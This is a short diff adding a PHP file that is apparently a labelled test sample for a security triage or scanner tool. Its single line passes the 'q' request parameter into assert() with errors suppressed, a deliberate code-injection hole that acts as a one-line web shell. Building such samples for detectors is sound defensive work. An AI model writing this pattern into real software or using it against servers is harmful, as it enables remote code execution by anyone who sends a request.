@@ -1,0 +1,3 @@
+<?php
+// triage-expect: triage_php_request_direct_exec
+@assert("\$q = '" . $_REQUEST['q'] . "';");
